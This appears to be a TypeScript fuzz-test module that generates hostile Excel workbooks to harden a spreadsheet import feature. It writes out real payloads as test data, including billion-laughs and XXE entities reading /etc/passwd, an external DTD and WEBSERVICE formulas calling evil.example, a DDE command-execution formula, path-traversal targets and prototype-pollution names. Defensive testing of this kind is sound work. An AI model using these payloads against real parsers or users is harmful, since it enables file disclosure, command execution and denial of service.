// The workbook part of the hostile-import campaigns (Excel checklists, Excel ledgers): hostile .xlsx
// files made from a valid one — DTDs and entity declarations in its XML parts, a shared-strings bomb,
// huge dimension and cell references, formulas, out-of-range string indices, deep nesting, over-long and
// malformed text — and the mutations of one XML part's text and of the workbook's cells.
import { Workbook, type CellValue } from '@cj-tech-master/excelts';
import fc from 'fast-check';
import { zipEntries } from '../../renderer/io/zip';
import { byteEditsArb, editBytes, editEntries, entryEditArb, hostileCase, text, utf8, type ByteEdit, type EntryEdit, type HostileCase, type ValidZip } from './hostile-files';

const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';

/** What a workbook without shared strings (ours write inline strings) gets in their place. */
const EMPTY_STRINGS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>x</t></si></sst>';

/** The valid workbook with parts replaced (a function gets the part's current text). */
function withParts(valid: ValidZip, parts: Record<string, string | Uint8Array | ((old: string) => string)>): Uint8Array {
  const entries = { ...valid.entries };
  for (const [path, part] of Object.entries(parts)) {
    const old = entries[path] ? text(entries[path]) : path === STRINGS ? EMPTY_STRINGS : '';
    entries[path] = typeof part === 'function' ? utf8(part(old)) : typeof part === 'string' ? utf8(part) : part;
  }
  return zipEntries(entries);
}

const afterProlog = (xml: string, insert: string) => xml.replace(/^(<\?xml[^>]*\?>)?/, (prolog) => `${prolog}${insert}`);
/** The first row's cells of the sheet get `cells` appended. */
const inFirstRow = (xml: string, cells: string) => xml.replace(/<\/row>/, `${cells}</row>`);

export function workbookCorpus(valid: ValidZip): HostileCase[] {
  const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;
  const rowsXml = (n: number) => Array.from({ length: n }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}" t="inlineStr"><is><t>x${i}</t></is></c></row>`).join('');
  const part = (name: string, bytes: () => Uint8Array) => hostileCase(name, bytes);
  return [
    part('a billion laughs in the sheet', () => withParts(valid, { [SHEET]: (x) => afterProlog(x, laughs).replace('<dimension', '<dimension lol="&lol9;"') })),
    part('an external entity in the shared strings', () => withParts(valid, { [STRINGS]: (x) => afterProlog(x, '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('<t>', '<t>&xxe;') })),
    part('a DTD in workbook.xml', () => withParts(valid, { 'xl/workbook.xml': (x) => afterProlog(x, '<!DOCTYPE workbook SYSTEM "http://evil.example/x.dtd">') })),
    part('an entity declaration in [Content_Types].xml', () => withParts(valid, { '[Content_Types].xml': (x) => afterProlog(x, '<!DOCTYPE t [<!ENTITY e "x">]>') })),
    part('a lower-case doctype in _rels/.rels', () => withParts(valid, { '_rels/.rels': (x) => afterProlog(x, '<!doctype r [<!entity e "x">]>') })),
    part('a sheet in UTF-16', () => withParts(valid, { [SHEET]: new Uint8Array([0xff, 0xfe, ...[...'<?xml version="1.0"?><!DOCTYPE x>'].flatMap((c) => [c.charCodeAt(0), 0])]) })),
    part('a shared-strings bomb (2,000,000 strings)', () => withParts(valid, { [STRINGS]: (x) => x.replace('</sst>', `${'<si><t>炸</t></si>'.repeat(2_000_000)}</sst>`) })),
    part('shared strings counting 4,000,000,000', () => withParts(valid, { [STRINGS]: (x) => x.replace(/count="\d+" uniqueCount="\d+"/, 'count="4000000000" uniqueCount="4000000000"') })),
    part('a string index out of range', () => withParts(valid, { [SHEET]: (x) => inFirstRow(x, '<c r="Z1" t="s"><v>99999999</v></c><c r="Y1" t="s"><v>-1</v></c><c r="X1" t="s"><v>__proto__</v></c>') })),
    part('a dimension of the whole sheet', () => withParts(valid, { [SHEET]: (x) => x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>') })),
    part('cells at XFD1048576 and beyond', () => withParts(valid, { [SHEET]: (x) => x.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row><row r="99999999"><c r="ZZZZZ99999999"><v>1</v></c></row></sheetData>') })),
    part('formulas (HYPERLINK, WEBSERVICE, DDE, no cached value)', () =>
      withParts(valid, {
        [SHEET]: (x) =>
          inFirstRow(x, '<c r="Z1" t="str"><f>HYPERLINK("http://evil.example","点此")</f><v>点此</v></c><c r="AA1"><f>WEBSERVICE("http://evil.example")</f></c><c r="AB1"><f>cmd|\' /C calc\'!A0</f></c><c r="AC1"><f t="shared" ref="AC1:AC9" si="0">1/0</f></c>'),
      }),
    ),
    part('formulas in every cell of the first data row', () => withParts(valid, { [SHEET]: (x) => x.replace(/(<row r="2"[^>]*>)([\s\S]*?)(<\/row>)/, (_, open: string, cells: string, close: string) => `${open}${cells.replace(/<v>/g, '<f>1+1</f><v>')}${close}`) })),
    part('100,001 rows', () => withParts(valid, { [SHEET]: (x) => x.replace(/<sheetData>[\s\S]*<\/sheetData>/, `<sheetData>${rowsXml(100_001)}</sheetData>`) })),
    part('a cell nested 100,000 elements deep', () => withParts(valid, { [SHEET]: (x) => inFirstRow(x, `<c r="Z1" t="inlineStr"><is>${'<r>'.repeat(100_000)}${'</r>'.repeat(100_000)}</is></c>`) })),
    part('a 5 MB string in a cell', () => withParts(valid, { [SHEET]: (x) => inFirstRow(x, `<c r="Z1" t="inlineStr"><is><t>${'长'.repeat(5 * 1024 * 1024 / 3)}</t></is></c>`) })),
    part('shared strings that are not UTF-8', () => withParts(valid, { [STRINGS]: (() => { const b = (valid.entries[STRINGS] ?? utf8(EMPTY_STRINGS)).slice(); b[b.indexOf(0x3c, 60) + 5] = 0xff; return b; })() })),
    part('a sheet padded with 64 MB of spaces', () => withParts(valid, { [SHEET]: (x) => x.replace('<sheetData>', `<sheetData>${' '.repeat(64 * 1024 * 1024)}`) })),
    part('a relationship target outside the package', () => withParts(valid, { 'xl/_rels/workbook.xml.rels': (x) => x.replace(/Target="[^"]*sheet1\.xml"/, 'Target="../../../../etc/passwd"') })),
    part('an absolute relationship target', () => withParts(valid, { 'xl/_rels/workbook.xml.rels': (x) => x.replace(/Target="[^"]*sheet1\.xml"/, 'Target="/C:/Windows/win.ini"') })),
    part('no workbook.xml', () => zipEntries(Object.fromEntries(Object.entries(valid.entries).filter(([p]) => p !== 'xl/workbook.xml')))),
    part('no sheet part', () => zipEntries(Object.fromEntries(Object.entries(valid.entries).filter(([p]) => p !== SHEET)))),
    part('sheets named __proto__ and constructor', () => withParts(valid, { 'xl/workbook.xml': (x) => x.replace(/<sheet name="[^"]*"/, '<sheet name="__proto__"').replace(/(<sheet [^>]*\/>)(<sheet )name="[^"]*"/, '$1$2name="constructor"') })),
    part('a shared string __proto__ everywhere', () => withParts(valid, { [STRINGS]: (x) => x.replace(/<t>[^<]*<\/t>/g, '<t>__proto__</t>') })),
    part('an old .xls (OLE) file', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(504)])),
  ];
}

export type PartEdit = { part: number; edits: ByteEdit[] };
export type CellEdit = { sheet: number; row: number; column: number; value: CellValue };

/** Byte edits of one XML part's text, the zip made again around it: what a broken writer could produce. */
export const partEditArb: fc.Arbitrary<PartEdit> = fc.record({ part: fc.nat(), edits: fc.array(fc.record({ op: fc.constantFrom('set' as const, 'insert' as const, 'delete' as const, 'truncate' as const), at: fc.noBias(fc.nat()), value: fc.constantFrom(0x3c, 0x3e, 0x22, 0x2f, 0x26, 0x30, 0x31, 0x39, 0x20, 0xff, 0x00, 0x41), length: fc.integer({ min: 1, max: 16 }) }), { minLength: 1, maxLength: 4 }) });

export function editPart(valid: ValidZip, m: PartEdit): Uint8Array {
  const parts = Object.keys(valid.entries).filter((p) => /\.(xml|rels)$/.test(p));
  const path = parts[m.part % parts.length]!;
  return zipEntries({ ...valid.entries, [path]: editBytes(valid.entries[path]!, m.edits) });
}

const hostileText = fc.constantFrom('', ' ', '__proto__', 'constructor', '=1+1', '=HYPERLINK("http://evil.example")', '\u0000', '\ud800', '长'.repeat(40_000), 'TRUE', '2026-13-45', '1e309', '-0', '已验收', '待整改', '整改中', '长期整改', '已整改待验收');
const cellValueArb: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 4, arbitrary: fc.oneof(hostileText, fc.string({ maxLength: 30 })) },
  { weight: 1, arbitrary: fc.oneof(fc.double(), fc.integer(), fc.boolean(), fc.date({ min: new Date(-1e14), max: new Date(1e14) })) },
  { weight: 1, arbitrary: fc.constantFrom<CellValue>(null, { formula: '1+1', result: 2 }, { formula: 'WEBSERVICE("http://evil.example")' }, { error: '#REF!' }, { richText: [{ text: '富' }, { text: '文本' }] }, { sharedFormula: 'A1', result: '待整改' } as CellValue) },
);

/** A cell of the used area (or now and then one far outside it) set to a hostile or random value. */
export const cellEditArb: fc.Arbitrary<CellEdit[]> = fc.array(
  fc.record({ sheet: fc.nat(), row: fc.oneof({ weight: 9, arbitrary: fc.integer({ min: 1, max: 12 }) }, { weight: 1, arbitrary: fc.integer({ min: 13, max: 1_048_576 }) }), column: fc.oneof({ weight: 9, arbitrary: fc.integer({ min: 1, max: 30 }) }, { weight: 1, arbitrary: fc.integer({ min: 31, max: 16_384 }) }), value: cellValueArb }),
  { minLength: 1, maxLength: 4 },
);

/**
 * The workbook loaded with ExcelTS, its cells edited, and written again (as a person editing in Excel).
 * Edits ExcelTS will not write (a lone surrogate…) are left out, one by one.
 */
export async function editCells(bytes: Uint8Array, edits: readonly CellEdit[]): Promise<Uint8Array> {
  for (let kept = edits.length; kept >= 0; kept--) {
    try {
      const book = new Workbook();
      await book.xlsx.load(bytes);
      for (const e of edits.slice(0, kept)) {
        const sheet = book.worksheets[e.sheet % book.worksheets.length]!;
        sheet.getRow(e.row).getCell(e.column).value = e.value;
      }
      return new Uint8Array(await book.xlsx.writeBuffer());
    } catch {
      // Try again with one edit fewer.
    }
  }
  return bytes;
}

export type WorkbookMutation = { kind: 'bytes'; edits: ByteEdit[] } | ({ kind: 'entries' } & EntryEdit) | ({ kind: 'part' } & PartEdit) | { kind: 'cells'; edits: CellEdit[] };

export const workbookMutationArb: fc.Arbitrary<WorkbookMutation> = fc.oneof(
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('bytes' as const), edits: byteEditsArb }) },
  { weight: 1, arbitrary: entryEditArb(['xl/workbook.xml', SHEET, STRINGS, '[Content_Types].xml']).map((e) => ({ kind: 'entries' as const, ...e })) },
  { weight: 3, arbitrary: partEditArb.map((e) => ({ kind: 'part' as const, ...e })) },
  { weight: 4, arbitrary: cellEditArb.map((edits) => ({ kind: 'cells' as const, edits })) },
);

/** The valid workbook with one mutation. Nothing vouches for a workbook's content, so none is "signed". */
export function workbookMutated(valid: ValidZip, m: WorkbookMutation): HostileCase {
  if (m.kind === 'bytes') return hostileCase('bytes', () => editBytes(valid.bytes, m.edits));
  if (m.kind === 'entries') return hostileCase(`entries ${m.op}`, () => editEntries(valid.entries, m));
  if (m.kind === 'part') return hostileCase('an XML part edited', () => editPart(valid, m));
  return hostileCase('cells edited', () => editCells(valid.bytes, m.edits));
}
